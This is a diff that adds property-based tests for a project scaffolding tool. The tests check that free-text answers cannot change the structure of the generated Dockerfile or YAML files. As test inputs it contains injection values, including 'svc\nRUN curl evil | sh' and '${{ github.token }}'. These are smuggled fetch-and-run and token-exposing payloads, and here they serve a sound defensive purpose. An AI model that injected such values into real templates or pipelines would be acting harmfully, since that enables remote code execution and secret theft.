@@ -1,0 +1,152 @@
+"""Property-based tests over the free-text answers (hypothesis).
+
+For any string given to a free-text question, scaffold either refuses it with a one-line message
+that names the question, or renders files whose structure is the structure the default answer
+gives: the same Dockerfile instructions, the same YAML keys in every YAML file. An answer can
+change a value; it can never add a line, an instruction, a step, a key or an expression.
+The question list and the context each question needs come from copier.yml.
+"""
+
+from __future__ import annotations
+
+import functools
+import os
+import tempfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from scaffold.answers import resolve
+from scaffold.errors import InvalidAnswer
+
+from helpers import combinations, dockerfile_instructions, pipelines, questionnaire, render
+
+# Examples per question: `--hypothesis-profile long` (or HYPOTHESIS_PROFILE=long) runs more.
+settings.register_profile("default", max_examples=60, deadline=None)
+settings.register_profile("long", max_examples=1000, deadline=None)
+settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "default"))
+
+# What breaks generated files: line breaks, quotes, YAML and shell syntax, GitHub expressions.
+NASTY = [
+    "\n",
+    "\r",
+    "\t",
+    " ",
+    '"',
+    "'",
+    "`",
+    "$",
+    "${{",
+    "}}",
+    "#",
+    ":",
+    ": ",
+    "- ",
+    "{",
+    "}",
+    "[",
+    "]",
+    "&",
+    "*",
+    "!",
+    "|",
+    ">",
+    "%",
+    "@",
+    "\\",
+    ";",
+    "\x00",
+    "\u2028",
+    "é",
+]
+
+
+def _free_text() -> list[str]:
+    return [q.name for q in questionnaire() if not q.choices and q.type in {"str", "int"}]
+
+
+@functools.cache
+def _context(name: str) -> dict[str, Any]:
+    """The choice answers of the first enumerated answer set in which question NAME is asked
+    (every other free-text answer takes its default, which may follow from NAME)."""
+    chosen = {q.name for q in questionnaire() if q.choices or q.type == "bool"}
+    for answers in [*combinations(), *pipelines()]:
+        if name in answers:
+            return {k: v for k, v in answers.items() if k in chosen}
+    raise AssertionError(f"no combination asks {name}")
+
+
+def _shape(folder: Path, answer: Any) -> dict[str, Any]:
+    """What must not change with a free-text answer: Dockerfile instructions, YAML key paths (a
+    key named after the answer, like compose's `svc` and `svc-prod`, stands as <answer>...)."""
+    shape: dict[str, Any] = {}
+    dockerfile = folder / "Dockerfile"
+    shape["Dockerfile"] = [ins for ins, _ in dockerfile_instructions(dockerfile.read_text())]
+    for path in sorted(folder.rglob("*")):
+        if path.suffix in {".yml", ".yaml"} and path.is_file():
+            data = yaml.safe_load(path.read_text())
+            shape[str(path.relative_to(folder))] = _keys(data, str(answer))
+    return shape
+
+
+def _keys(data: Any, answer: str, prefix: str = "") -> list[str]:
+    if isinstance(data, dict):
+        found = []
+        for key, value in data.items():
+            named = str(key) == answer or str(key).startswith(answer + "-")
+            shown = "<answer>" + str(key)[len(answer) :] if named else key
+            path = f"{prefix}/{shown}"
+            found += [path, *_keys(value, answer, path)]
+        return found
+    if isinstance(data, list):
+        return [k for i, value in enumerate(data) for k in _keys(value, answer, f"{prefix}[{i}]")]
+    return []
+
+
+@functools.cache
+def _default_shape(name: str) -> dict[str, Any]:
+    answers = resolve(questionnaire(), _context(name), folder_name="svc", ask=None)
+    with tempfile.TemporaryDirectory() as scratch:
+        return _shape(render(answers, Path(scratch, "svc")), answers[name])
+
+
+def _near(name: str) -> st.SearchStrategy[str]:
+    """The default answer with nasty text put somewhere in it, or any text at all."""
+    default = str(resolve(questionnaire(), _context(name), folder_name="svc", ask=None)[name])
+    spliced = st.builds(
+        lambda at, bad, tail: default[:at] + bad + default[at:] + tail,
+        st.integers(0, len(default)),
+        st.sampled_from(NASTY),
+        st.sampled_from(["", "\n", "\nRUN id", "\n  injected: true", " #x"]),
+    )
+    return st.one_of(spliced, st.text(max_size=40))
+
+
+@pytest.mark.parametrize("name", _free_text())
+def test_a_free_text_answer_is_refused_in_one_line_or_changes_no_structure(name: str) -> None:
+    @settings(suppress_health_check=[HealthCheck.too_slow])
+    @given(value=_near(name))
+    # The corpus: what hypothesis found, and what an attacker tries first.
+    @example(value="x\n")  # `$` in a validator regex matched before it (fixed: \\Z)
+    @example(value="no")  # a YAML 1.1 boolean as compose's service name (fixed: yaml_str)
+    @example(value="null")
+    @example(value="svc\nRUN curl evil | sh")
+    @example(value="${{ github.token }}")
+    @example(value="svc: {x: 1}")
+    def check(value: str) -> None:
+        given_answers = {**_context(name), name: value}
+        try:
+            answers = resolve(questionnaire(), given_answers, folder_name="svc", ask=None)
+        except InvalidAnswer as refused:
+            message = str(refused)
+            assert "\n" not in message and message.startswith(name), message
+            return
+        with tempfile.TemporaryDirectory() as scratch:
+            shape = _shape(render(answers, Path(scratch, "svc")), answers[name])
+        assert shape == _default_shape(name), f"{name}={value!r} changed the files' structure"
+
+    check()
